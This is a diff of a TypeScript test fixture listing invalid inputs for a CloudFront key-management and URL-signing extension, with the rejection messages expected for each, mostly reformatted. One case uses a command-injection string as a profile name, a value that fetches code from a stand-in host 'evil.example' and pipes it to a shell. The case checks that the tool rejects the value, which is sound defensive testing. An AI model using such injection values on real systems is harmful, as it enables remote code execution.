@@ -83,20 +83,50 @@ const sign = (extra: Record<string, unknown>) => ({ url: paidUrl, keyPairId: '{s
 /** Every command refuses an options object of the wrong shape, naming the option at fault. */
 const NO_OPTIONS = 'This command takes no options object: call it without arguments, or with its tree row.';
 const WRONG_SHAPE: readonly BadInput[] = [
-  { command: createKeyPair, args: { name: 'key-misspelt', algorithm: 'ECDSA_P256', keygroupName: 'group-misspelt' }, rejects: 'keygroupName is not an option of this command; it takes name, algorithm, keyGroupName, keyGroupId, distributionId, pathPatterns.', input: 'keygroupName' },
-  { command: importPrivateKey, args: { privateKey: '{strangerPem}', name: 'imported-misspelt' }, rejects: 'privateKey is not an option of this command; it takes pem, passphrase, publicKeyId, name.', input: 'privateKey' },
-  { command: 'cloudfront.exportPublicKey', args: { publicKeyId: '{signerKeyId}', file: '/tmp/public.pem' }, rejects: 'file is not an option of this command; it takes publicKeyId, uri.', input: 'file' },
+  {
+    command: createKeyPair,
+    args: { name: 'key-misspelt', algorithm: 'ECDSA_P256', keygroupName: 'group-misspelt' },
+    rejects: 'keygroupName is not an option of this command; it takes name, algorithm, keyGroupName, keyGroupId, distributionId, pathPatterns.',
+    input: 'keygroupName',
+  },
+  {
+    command: importPrivateKey,
+    args: { privateKey: '{strangerPem}', name: 'imported-misspelt' },
+    rejects: 'privateKey is not an option of this command; it takes pem, passphrase, publicKeyId, name.',
+    input: 'privateKey',
+  },
+  {
+    command: 'cloudfront.exportPublicKey',
+    args: { publicKeyId: '{signerKeyId}', file: '/tmp/public.pem' },
+    rejects: 'file is not an option of this command; it takes publicKeyId, uri.',
+    input: 'file',
+  },
   { command: 'cloudfront.exportPrivateKey', args: { keyPairId: '{signerKeyId}' }, rejects: 'keyPairId is not an option of this command; it takes publicKeyId, uri.', input: 'keyPairId' },
   { command: 'cloudfront.deleteLocalKey', args: { publicKeyId: 7 }, rejects: 'publicKeyId must be a string.', input: 'publicKeyId' },
   { command: 'cloudfront.deletePublicKey', args: { id: '{signerKeyId}' }, rejects: 'id is not an option of this command; it takes publicKeyId.', input: 'id' },
   { command: 'cloudfront.rotateKey', args: { keyGroupId: ['{fullGroupId}'] }, rejects: 'keyGroupId must be a string.', input: 'keyGroupId' },
-  { command: signUrl, args: { url: paidUrl, expiry: FUTURE, copy: false }, rejects: 'expiry is not an option of this command; it takes url, keyPairId, expires, activeFrom, ipRange, resource, hashAlgorithm, copy.', input: 'expiry' },
-  { command: signSelection, args: { expires: FUTURE, copy: false }, rejects: 'copy is not an option of this command; it takes expires, activeFrom, ipRange, resource, hashAlgorithm, keyPairId, baseUrl.', input: 'copy' },
+  {
+    command: signUrl,
+    args: { url: paidUrl, expiry: FUTURE, copy: false },
+    rejects: 'expiry is not an option of this command; it takes url, keyPairId, expires, activeFrom, ipRange, resource, hashAlgorithm, copy.',
+    input: 'expiry',
+  },
+  {
+    command: signSelection,
+    args: { expires: FUTURE, copy: false },
+    rejects: 'copy is not an option of this command; it takes expires, activeFrom, ipRange, resource, hashAlgorithm, keyPairId, baseUrl.',
+    input: 'copy',
+  },
   { command: signCookies, args: { resource: 'https://{domain}/paid/*', expires: FUTURE, copy: 'no' }, rejects: 'copy must be true or false.', input: 'copy' },
   { command: diagnoseUrl, args: { url: paidUrl, live: 'yes' }, rejects: 'live must be true or false.', input: 'live' },
   { command: chooseProfile, args: { name: 'dev' }, rejects: 'name is not an option of this command; it takes profile.', input: 'name' },
   { command: 'cloudfront.ssoLogin', args: { profile: 42 }, rejects: 'profile must be a string.', input: 'profile' },
-  { command: 'cloudfront.generateSigningCode', args: { publicKeyId: '{signerKeyId}', lang: 'python' }, rejects: 'lang is not an option of this command; it takes publicKeyId, language, kind, keySource, example.', input: 'lang' },
+  {
+    command: 'cloudfront.generateSigningCode',
+    args: { publicKeyId: '{signerKeyId}', lang: 'python' },
+    rejects: 'lang is not an option of this command; it takes publicKeyId, language, kind, keySource, example.',
+    input: 'lang',
+  },
   { command: 'cloudfront.exportInfrastructure', args: { distributionId: '{distributionId}', format: 'pulumi' }, rejects: 'format must be one of cloudformation, cdk, terraform.', input: 'format' },
   ...['refresh', 'refreshNode', 'loadMore', 'copyDomain', 'copyBucketPolicy', 'openInConsole', 'showLog'].map((name) => ({
     command: `cloudfront.${name}`,
@@ -229,7 +259,7 @@ export const BAD_INPUTS: readonly BadInput[] = [
 
   // Create Key Pair: names, algorithms, key groups, behaviors.
   {
-    case: 'a name over 128 characters (CloudFront\'s limit)',
+    case: "a name over 128 characters (CloudFront's limit)",
     command: createKeyPair,
     args: { name: '{longName}', algorithm: 'ECDSA_P256', keyGroupName: 'group-long-name' },
     expect: { rejects: `name: ${NAME_RULE}: {longName}`, input: 'name' },
@@ -287,7 +317,7 @@ export const BAD_INPUTS: readonly BadInput[] = [
     command: createKeyPair,
     args: { name: 'key-full-group', algorithm: 'ECDSA_P256', keyGroupId: '{fullGroupId}' },
     expect: {
-      rejects: 'Key group {fullGroupName} already holds 5 of 5 public keys, CloudFront\'s limit: remove a key from it or choose another group.',
+      rejects: "Key group {fullGroupName} already holds 5 of 5 public keys, CloudFront's limit: remove a key from it or choose another group.",
       input: 'keyGroupId',
     },
   },
@@ -357,8 +387,7 @@ export const BAD_INPUTS: readonly BadInput[] = [
     command: signUrl,
     args: sign({ url: '{signedUrl}' }),
     expect: {
-      rejects:
-        'url already has the query parameter Expires, Signature, Key-Pair-Id, which CloudFront reserves for signed URLs. Sign the URL without it (remove any earlier signature first).',
+      rejects: 'url already has the query parameter Expires, Signature, Key-Pair-Id, which CloudFront reserves for signed URLs. Sign the URL without it (remove any earlier signature first).',
       input: 'url',
     },
   },
@@ -487,7 +516,7 @@ export const BAD_INPUTS: readonly BadInput[] = [
     args: sign({ url: 'https://{deployingDomain}/paid/a.mp4' }),
     expect: {
       succeeds:
-        'Signs as for a deployed distribution, without a word about the status: the URL works once CloudFront has deployed the behavior\'s key group (the Distributions view shows the distribution with a sync icon until then).',
+        "Signs as for a deployed distribution, without a word about the status: the URL works once CloudFront has deployed the behavior's key group (the Distributions view shows the distribution with a sync icon until then).",
     },
   },
 
@@ -516,7 +545,7 @@ export const BAD_INPUTS: readonly BadInput[] = [
     args: { resource: 'https://{domain}/paid/*', keyPairId: '{signerKeyId}', expires: FUTURE, format: 'set-cookie', domain: '*.cloudfront.net', copy: false },
     expect: {
       rejects:
-        'The cookie domain *.cloudfront.net is not allowed: CloudFront does not accept *.cloudfront.net as a Domain attribute, because cloudfront.net is a public suffix and browsers refuse cookies for it. Use one of the distribution\'s alternate domain names (for example example.com), or its own domain name such as d111111abcdef8.cloudfront.net.',
+        "The cookie domain *.cloudfront.net is not allowed: CloudFront does not accept *.cloudfront.net as a Domain attribute, because cloudfront.net is a public suffix and browsers refuse cookies for it. Use one of the distribution's alternate domain names (for example example.com), or its own domain name such as d111111abcdef8.cloudfront.net.",
       input: 'domain',
     },
   },
@@ -549,12 +578,12 @@ export const BAD_INPUTS: readonly BadInput[] = [
     expect: { rejects: 'resource has the host "media example.com", which contains " ": no URL a browser sends has such a host, so the pattern could never match.', input: 'resource' },
   },
   {
-    case: 'a cookie domain the resource\'s host is not in',
+    case: "a cookie domain the resource's host is not in",
     command: signCookies,
     args: { resource: 'https://{domain}/paid/*', keyPairId: '{signerKeyId}', expires: FUTURE, format: 'set-cookie', domain: 'media.example.com', copy: false },
     expect: {
       rejects:
-        'The cookie domain media.example.com does not cover the resource\'s host {domain}: browsers send the cookies only to media.example.com and its subdomains, where the resource https://{domain}/paid/* never matches, so CloudFront would refuse every request. Use a resource on media.example.com (https://media.example.com/paid/*) or the domain {domain}.',
+        "The cookie domain media.example.com does not cover the resource's host {domain}: browsers send the cookies only to media.example.com and its subdomains, where the resource https://{domain}/paid/* never matches, so CloudFront would refuse every request. Use a resource on media.example.com (https://media.example.com/paid/*) or the domain {domain}.",
       input: 'domain',
     },
   },
@@ -576,7 +605,7 @@ export const BAD_INPUTS: readonly BadInput[] = [
     command: signSelection,
     args: { keyPairId: '{signerKeyId}' },
     setup: 'document',
-    expect: { succeeds: 'Signs the document\'s URLs for one hour from now, as Sign CloudFront URL and Create Signed Cookies do without expires.' },
+    expect: { succeeds: "Signs the document's URLs for one hour from now, as Sign CloudFront URL and Create Signed Cookies do without expires." },
   },
   {
     case: 'a base URL that is not http(s)',
@@ -601,8 +630,7 @@ export const BAD_INPUTS: readonly BadInput[] = [
     command: chooseProfile,
     args: { profile: 'dev; curl evil.example | sh' },
     expect: {
-      rejects:
-        'No AWS profile named "dev; curl evil.example | sh" in ~/.aws/config or ~/.aws/credentials: pass one of {profiles}, or "" for the default credential chain.',
+      rejects: 'No AWS profile named "dev; curl evil.example | sh" in ~/.aws/config or ~/.aws/credentials: pass one of {profiles}, or "" for the default credential chain.',
       input: 'profile',
     },
   },
@@ -634,7 +662,7 @@ export const BAD_INPUTS: readonly BadInput[] = [
       finding: {
         code: 'SignatureMismatch',
         message:
-          'The signature does not verify with CloudFront\'s public key {signerKeyId} (a 2048-bit RSA key, SHA1) over the canned policy: the URL or expiry changed after signing, or another private key signed it. CloudFront answers AccessDenied.',
+          "The signature does not verify with CloudFront's public key {signerKeyId} (a 2048-bit RSA key, SHA1) over the canned policy: the URL or expiry changed after signing, or another private key signed it. CloudFront answers AccessDenied.",
       },
     },
   },
